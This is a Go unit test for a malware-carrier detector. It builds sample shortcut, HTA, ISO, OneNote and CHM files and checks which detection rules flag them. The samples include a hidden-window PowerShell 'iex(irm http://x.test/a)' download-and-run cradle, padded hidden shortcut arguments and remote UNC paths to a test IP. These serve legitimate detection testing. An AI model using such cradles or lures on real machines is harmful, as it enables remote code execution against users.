package analyzers

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/edgesensor/edgesensor/internal/testutil/carriers"
	"github.com/edgesensor/edgesensor/userspace/files/filetype"
)

// Each carrier sample gets the reasons an analyst would give it.
func TestCarrierReasons(t *testing.T) {
	pe := minimalPE()
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cases := []struct {
		name string
		body []byte
		want []string // rules that must be there
		not  []string // rules that must not
	}{
		{"invoice.pdf.lnk", carriers.LNK(ps, "-w hidden -c iex(irm http://x.test/a)", "", true),
			[]string{"lnk.downloaded", "lnk.runs_interpreter", "lnk.hidden_window"}, []string{"lnk.hidden_arguments"}},
		{"padded.lnk", carriers.LNK(`C:\Windows\notepad.exe`, strings.Repeat(" ", 300)+"x", `\\198.51.100.7\s\i.ico`, false),
			[]string{"lnk.hidden_arguments", "lnk.remote_icon"}, []string{"lnk.runs_interpreter"}},
		{"docs.url", []byte("[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n"), []string{"url.file_target"}, nil},
		{"site.url", []byte("[InternetShortcut]\r\nURL=https://example.test/\r\n"), []string{"url.downloaded"}, []string{"url.file_target"}},
		{"invoice.hta", carriers.HTA(), []string{"script.hta"}, []string{"script.download_cradle"}},
		{"update.ps1", carriers.PowerShellCradle(), []string{"script.downloaded", "script.download_cradle", "script.encoded"}, nil},
		{"install.sh", []byte("#!/bin/sh\necho installing\n"), []string{"script.downloaded"}, []string{"script.download_cradle"}},
		{"invoice.iso", carriers.ISO(map[string][]byte{"invoice.exe": pe, "readme.txt": []byte("read me\n")}),
			[]string{"image.downloaded", "archive.executable_inside"}, nil},
		{"photos.iso", carriers.ISO(map[string][]byte{"photos.lnk": carriers.LNK(ps, "-c x", "", false)}),
			[]string{"archive.shortcut_inside", "lnk.runs_interpreter"}, []string{"archive.executable_inside"}},
		{"clean.iso", carriers.ISO(map[string][]byte{"readme.txt": []byte("read me\n")}),
			[]string{"image.downloaded"}, []string{"archive.executable_inside", "archive.limit_reached"}},
		{"notes.one", carriers.OneNote(carriers.HTA()), []string{"onenote.embedded_file", "archive.script_inside", "script.hta"}, nil},
		{"help.chm", carriers.CHM(), []string{"chm.downloaded"}, nil},
	}
	for _, c := range cases {
		ty := filetype.Detect(c.body, c.name, "", int64(len(c.body)))
		rs := Analyze(bytes.NewReader(c.body), int64(len(c.body)), ty, c.name, Limits{})
		checkRules(t, fmt.Sprintf("%s (%s)", c.name, ty.Kind), rs, c.want, c.not)
	}
}

// minimalPE is an MZ header whose e_lfanew points at a PE signature.
func minimalPE() []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	b[60] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	return b
}
